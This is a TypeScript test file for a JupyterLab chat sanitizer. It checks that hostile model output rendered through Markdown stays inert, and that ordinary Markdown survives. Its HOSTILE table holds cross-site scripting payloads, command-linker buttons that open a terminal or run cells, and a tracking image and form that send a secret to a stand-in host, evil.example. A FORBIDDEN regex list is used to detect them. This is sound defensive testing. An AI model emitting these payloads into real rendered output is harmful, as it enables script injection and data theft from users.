/**
 * Hostile model output through the same chain the browser uses: Markdown → HTML
 * (marked, JupyterLab's parser) → JupyterLab's Sanitizer with the chat rules.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { marked } from 'marked';

import { createChatSanitizer } from '../src/chat/sanitizer';

const chat = createChatSanitizer(new Sanitizer());
const render = (markdown: string): string => chat.sanitize(marked.parse(markdown) as string);

const HOSTILE: Record<string, string> = {
  script: 'Hi <script>alert(1)</script> there',
  scriptSrc: '<script src="https://evil.example/x.js"></script>',
  imgOnerror: '<img src=x onerror="alert(1)">',
  markdownImage: '![tracking](https://evil.example/leak?data=SECRET)',
  jsLink: '[click](javascript:alert(1))',
  jsLinkEncoded: '<a href="jav&#x09;ascript:alert(1)">x</a>',
  jsLinkUpper: '<a href="JaVaScRiPt:alert(1)">x</a>',
  dataLink: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscript: '<a href="vbscript:msgbox(1)">x</a>',
  svg: '<svg onload="alert(1)"><script>alert(2)</script><circle r="4"/></svg>',
  svgForeign: '<svg><foreignObject><body onload="alert(1)"></body></foreignObject></svg>',
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  form: '<form action="https://evil.example"><input name="p" value="secret"><button>Send</button></form>',
  commandLinker: '<button data-commandlinker-command="terminal:create-new">Open</button>',
  commandLinkerSpan: '<span data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">run</span>',
  style: '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</div><style>*{display:none}</style>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
  eventOnP: '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  details: '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
  base: '<base href="https://evil.example/">',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  video: '<video src="https://evil.example/v.mp4" autoplay onplay="alert(1)"></video>',
  audio: '<audio src="https://evil.example/a.mp3" autoplay></audio>'
};

const FORBIDDEN: RegExp[] = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text/i,
  /<img/i,
  /<svg/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<style/i,
  /style=/i,
  /<meta/i,
  /<link/i,
  /<base/i,
  /<video/i,
  /<audio/i,
  /<math/i,
  /commandlinker/i,
  /srcdoc/i,
  /evil\.example\/(leak|x\.js|x\.swf|v\.mp4|a\.mp3|x\.css|x\))/i
];

describe('chat sanitizer: hostile model output is inert', () => {
  for (const [name, markdown] of Object.entries(HOSTILE)) {
    test(name, () => {
      const html = render(markdown);
      for (const pattern of FORBIDDEN) {
        assert.doesNotMatch(html, pattern, `${name} → ${html}`);
      }
    });
  }

  test('the rules hold even without Markdown (raw HTML straight to the sanitizer)', () => {
    for (const html of Object.values(HOSTILE).filter(h => h.startsWith('<'))) {
      const clean = chat.sanitize(html);
      for (const pattern of FORBIDDEN) {
        assert.doesNotMatch(clean, pattern, clean);
      }
    }
  });

  test('says it allows neither command links nor named properties', () => {
    assert.equal(chat.allowCommandLinker, false);
    assert.equal(chat.allowNamedProperties, false);
  });
});

describe('chat sanitizer: ordinary Markdown survives', () => {
  test('headings, emphasis, lists, tables, code with its language', () => {
    const html = render(
      '# Title\n\n**bold** _it_ `x`\n\n- a\n- b\n\n| h |\n|---|\n| c |\n\n```python\nprint(1)\n```\n'
    );
    for (const fragment of ['<h1', '<strong>bold</strong>', '<em>it</em>', '<code>x</code>', '<li>a</li>', '<table>', 'class="language-python"', 'print(1)']) {
      assert.ok(html.includes(fragment), `${fragment} missing from ${html}`);
    }
  });

  test('http(s) links keep their href', () => {
    const html = render('[docs](https://jupyter.org/docs) and <https://example.org>');
    assert.match(html, /href="https:\/\/jupyter\.org\/docs"/);
    assert.match(html, /href="https:\/\/example\.org"/);
  });
});
